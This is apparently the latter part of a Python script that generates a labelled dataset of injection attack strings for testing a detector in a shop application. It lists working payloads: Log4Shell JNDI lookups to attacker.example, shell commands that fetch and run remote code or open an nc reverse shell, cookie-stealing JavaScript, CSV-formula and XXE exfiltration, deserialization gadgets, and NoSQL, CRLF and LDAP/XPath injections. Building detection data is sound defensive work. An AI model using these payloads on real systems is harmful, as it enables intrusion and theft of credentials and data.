    ("expression-language", "#{''.class.forName('java.lang.Runtime').getMethod('exec',''.class).invoke(''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"),
    ("expression-language", "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]"),
    ("jndi-log4shell", "${jndi:ldap://attacker.example:1389/cobbler}"),
    ("jndi-log4shell", "Brown boots ${jndi:rmi://203.0.113.77:1099/o}"),
    ("jndi-log4shell", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/a}"),
    ("jndi-log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.14/e}"),
    ("jndi-log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.dns.attacker.example}"),
    ("jndi-log4shell", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//attacker.example/z}"),
    ("jndi-log4shell", "${jndi:ldaps://attacker.example/${sys:java.version}}"),
    ("jndi-log4shell", "${${upper:j}${upper:n}di:iiop://203.0.113.2/q}"),
    ("code-eval", "__import__('os').system('curl attacker.example/p|sh')"),
    ("code-eval", "require('child_process').exec('nc 203.0.113.40 4444 -e sh')"),
    ("code-eval", "1;process.mainModule.require('child_process').execSync('id').toString()"),
    ("code-eval", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("code-eval", "<?php system($_REQUEST['c']); ?>"),
    ("code-eval", "'; system('id'); $x='"),
    ("code-eval", "\".exec('cat /etc/passwd').\""),
    ("code-eval", "Function('return this')().process.exit()"),
    ("code-eval", "$(new Function(\"fetch('//attacker.example/'+document.cookie)\")())"),
    ("code-eval", "price*1; import('child_process').then(m=>m.execSync('id'))"),
    ("proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("proto-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("proto-pollution", "__proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require('child_process').execSync('id').toString())//"),
    ("proto-pollution", "notify[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("proto-pollution", "{\"settings\":{\"__proto__\":{\"sourceURL\":\"\\u000areturn process.mainModule.require('child_process').execSync('id')//\"}}}"),
    ("proto-pollution", "constructor.prototype.discount=100"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"View ticket\")"),
    ("csv-formula", "+SUM(1+1)*cmd|' /C powershell iwr attacker.example/x'!A1"),
    ("csv-formula", "-2+3+cmd|' /c notepad'!'A1'"),
    ("csv-formula", "@SUM(1)*cmd|'/c whoami'!A1"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/c?\",A1:C20),\"//a\")"),
    ("csv-formula", "Patel;=WEBSERVICE(\"http://198.51.100.2/?\"&B3);heel tips"),
    ("csv-formula", "\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")\""),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><order><sku>&x;</sku></order>"),
    ("xxe", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><r/>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE inv [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><invoice><note>&m;</note></invoice>"),
    ("xxe", "<!DOCTYPE x [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><x>&d;</x>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/srv/cobbler/.env\">]><supplier>&f;</supplier>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>"),
    ("xxe", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///root/.ssh/id_rsa\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&k;</text></svg>"),
    ("deserialization", "O:8:\"Ticket\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "a:1:{i:0;O:21:\"Monolog\\Handler\\Syslog\":1:{s:9:\"\\0*\\0socket\";O:8:\"PharTask\":0:{}}}"),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAAEY2FsY3Q="),
    ("deserialization", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("deserialization", "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("deserialization", "!!python/object/apply:os.system [\"curl http://attacker.example/y | sh\"]"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs: [!ruby/object:Gem::Source::SpecificFile {spec: &1 !ruby/object:Gem::StubSpecification {loaded_from: \"|id 1>&2\"}}]"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c whoami\"]}}"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}"),
    ("deserialization", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("deserialization", "[\"java.util.logging.FileHandler\",{\"pattern\":\"/var/www/html/x.jsp\",\"append\":true}]"),
]

NOSQLI = [
    ("operator-injection", "{\"login\": \"mike\", \"pin\": {\"$ne\": null}}"),
    ("operator-injection", "{\"customer\": {\"$gt\": \"\"}}"),
    ("operator-injection", "{\"$where\": \"this.role == 'admin' || sleep(5000)\"}"),
    ("operator-injection", "{\"email\": {\"$regex\": \"^a.*\"}, \"password\": {\"$ne\": \"x\"}}"),
    ("operator-injection", "{\"status\": {\"$nin\": [\"collected\"]}, \"$or\": [{}, {\"a\": 1}]}"),
    ("operator-injection", "login[$ne]=x&pin[$ne]=x"),
    ("operator-injection", "pin[$regex]=^1.*&login=admin"),
    ("operator-injection", "customer[$exists]=true"),
    ("operator-injection", "ticket[$gt]=&status[$ne]=collected"),
    ("operator-injection", "{\"pin\": {\"$in\": [\"0000\",\"1234\",\"1111\"]}}"),
    ("operator-injection", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password\"}, 0]}}"),
    ("operator-injection", "{\"slot\": {\"$type\": 2}, \"$comment\": \"x\"}"),
    ("js-injection", "'; return true; var x='"),
    ("js-injection", "heel' || this.password.match(/^a/) || 'a'=='b"),
    ("js-injection", "0; while(true){}"),
    ("js-injection", "'; sleep(6000); '"),
    ("js-injection", "x' && this.role=='admin' && ''=='"),
    ("js-injection", "function(){return db.getCollectionNames().length>0}"),
    ("aggregation", "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"s\"}}]"),
    ("aggregation", "{\"$group\": {\"_id\": \"$password\"}}"),
    ("aggregation", "[{\"$match\":{}},{\"$out\":\"tickets\"}]"),
    ("aggregation", "{\"$function\": {\"body\": \"function(){return sleep(5000)}\", \"args\": [], \"lang\": \"js\"}}"),
    ("couch-elastic", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"pin\", \"email\"]}"),
    ("couch-elastic", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
    ("couch-elastic", "heel tips OR _exists_:password_hash"),
    ("redis-injection", "tips\r\nFLUSHALL\r\n"),
    ("redis-injection", "eval \"return redis.call('config','set','dir','/var/www')\" 0"),
]

CRLF = [
    ("log-forging", "heel tips\n2024-04-02 10:13:22 INFO login ok user=admin ip=127.0.0.1"),
    ("log-forging", "Patel\r\n[2024-05-01 09:00:00] AUDIT refund issued: \u00a3500 to card 4111 by mike"),
    ("log-forging", "4471%0a[INFO] staff_user=sarah action=delete_all_tickets status=ok"),
    ("log-forging", "zip%0d%0aWARN payment verified for ticket 5512"),
    ("log-forging", "brown\n\n\n\n\n\nERROR disk full -- rotating logs, previous entries removed"),
    ("log-forging", "Sat 10:00\u2028INFO admin password reset for jo"),
    ("log-forging", "x\r\n127.0.0.1 - - [01/Jan/2024:00:00:01 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("log-forging", "note\\nlevel=info msg=\"role changed to admin\" user=raj"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker-fixed-value; Path=/"),
    ("header-injection", "/slots%0d%0aLocation:%20https://attacker.example/"),
    ("header-injection", "ready%0D%0AX-Forwarded-For:%20127.0.0.1"),
    ("header-injection", "ticket.pdf\r\nContent-Disposition: attachment; filename=\"invoice.exe\""),
    ("header-injection", "dark%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example"),
    ("header-injection", "x%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("header-injection", "/receipt\r\nRefresh: 0; url=https://attacker.example/pay"),
    ("response-splitting", "/booking%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting", "en\r\n\r\n<html><body>Your card was declined, re-enter at https://attacker.example</body></html>"),
    ("response-splitting", "/pickup%0d%0a%0d%0a<img src=x onerror=alert(document.cookie)>"),
    ("response-splitting", "sole%0AContent-Type:%20text/html%0A%0A%3Cscript%3Ealert(1)%3C/script%3E"),
    ("mail-header", "siobhan@mail.example\r\nBcc: list@attacker.example"),
    ("mail-header", "Your repair is ready\nCc: everyone@attacker.example\nX-Priority: 1"),
    ("mail-header", "raj@example.org%0ABcc:%20dump@attacker.example%0ASubject:%20Invoice"),
    ("mail-header", "Order #7711\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay here</a>"),
    ("mail-header", "Patel <p@example.org>\nReply-To: billing@attacker.example"),
    ("mail-header", "x@example.org\r\nTo: all-customers@attacker.example\r\n"),
    ("mail-header", "-f x@attacker.example -X /var/www/html/log.php"),
    ("csv-row-injection", "heel tips\n4999,admin,refund,500.00,approved"),
    ("csv-row-injection", "Vibram 1220\r\n\"=HYPERLINK(\"\"https://attacker.example\"\",\"\"Reorder\"\")\",1,0.01"),
    ("csv-row-injection", "Patel\",\"paid\",\"0.00\"\r\n\"9999\",\"Mike\",\"refund\",\"-300\""),
    ("csv-row-injection", "zip;5;0.01\nHT-911;Heel tips 9x11;0.00"),
]

LDAP_XPATH = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "mike)(|(password=*))"),
    ("ldap", "admin*)((|userPassword=*)"),
    ("ldap", "*)(&(objectClass=*)"),
    ("ldap", "sarah)(memberOf=cn=shop-admins,ou=groups,dc=cobbler,dc=local"),
    ("ldap", "jo*)(|(cn=*"),
    ("ldap", "*)(userPassword=a*"),
    ("ldap", "raj\\29\\28|\\28uid=\\2a"),
    ("ldap", "x)(!(objectClass=void)"),
    ("ldap", "*))%00"),
    ("ldap", "Patel)(telephoneNumber=*)(cn=*"),
    ("xpath", "Mike' or '7'='7"),
    ("xpath", "heel tips' or count(/customers/customer)>0 or 'a'='b"),
    ("xpath", "x'] | //staff/user/password | //*['"),
    ("xpath", "' or substring(//user[login='mike']/pin,1,1)='4' or ''='"),
    ("xpath", "1 or 1=1]/parent::*/child::node()"),
    ("xpath", "') or name(/*[1])='orders' or ('"),
    ("xpath", "tan' or string-length(//user[1]/password)>5 and '1'='1"),
    ("xpath", "'] | doc('http://attacker.example/x.xml')//a | a['"),
    ("xpath", "x' or contains(//settings/api_key,'sk_') or 'z'='y"),
]


def urlenc_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    with open(os.path.join(here, "benign.jsonl"), encoding="utf-8") as f:
        for line in f:
            benign.add(json.loads(line)["value"])

    rows = []  # (category, class, value, literal?)
    for c, v in SQLI:
        rows.append(("sqli", c, v, True))
    # generated: prefix + pool payload (5 values)
    seen_pairs = set()
    while len(seen_pairs) < 5:
        p = rng.choice(SQLI_PREFIX)
        q = rng.choice(SQLI_POOL)
        if (p, q) in seen_pairs:
            continue
        seen_pairs.add((p, q))
        rows.append(("sqli", "prefix-join", p + q, False))
    for v in SQLI_URLENC:
        rows.append(("sqli", "boolean-blind+urlencode" if "OR" in v else
                     ("union-based+urlencode" if "UNION" in v else "stacked+urlencode"),
                     urlenc_all(v), False))
    for c, v in XSS:
        rows.append(("xss", c, v, True))
    for c, v in CMDI:
        rows.append(("cmdi", c, v, True))
    for c, v in TRAVERSAL:
        rows.append(("traversal", c, v, True))
    for v in TRAVERSAL_URLENC:
        rows.append(("traversal", "dotdot+urlencode", urlenc_all(v), False))
    for c, v in SSRF:
        rows.append(("ssrf", c, v, True))
    for c, v in CODE:
        rows.append(("code", c, v, True))
    for c, v in NOSQLI:
        rows.append(("nosqli", c, v, True))
    for c, v in CRLF:
        rows.append(("crlf", c, v, True))
    for c, v in LDAP_XPATH:
        rows.append(("ldap-xpath", c, v, True))

    seen = set()
    for cat, c, v, _ in rows:
        assert v not in seen, ("dup", v)
        assert v not in benign, ("equals benign", v)
        assert 1 <= len(v) <= 2000, v
        for ch in v:
            o = ord(ch)
            assert not (o < 32 and ch not in "\n\r\t") and o != 127, ("ctrl", v)
        seen.add(v)

    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, c, v, _) in enumerate(rows, 1):
            obj = {"id": "haig-%05d" % i, "category": cat, "class": c, "label": "attack",
                   "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")

    counts = {}
    lits = {}
    for cat, c, v, lit in rows:
        counts[cat] = counts.get(cat, 0) + 1
        lits[cat] = lits.get(cat, 0) + (1 if lit else 0)
    for cat in counts:
        print(cat, counts[cat], lits[cat])
    print("total", len(rows), sum(lits.values()))


if __name__ == "__main__":
    main()
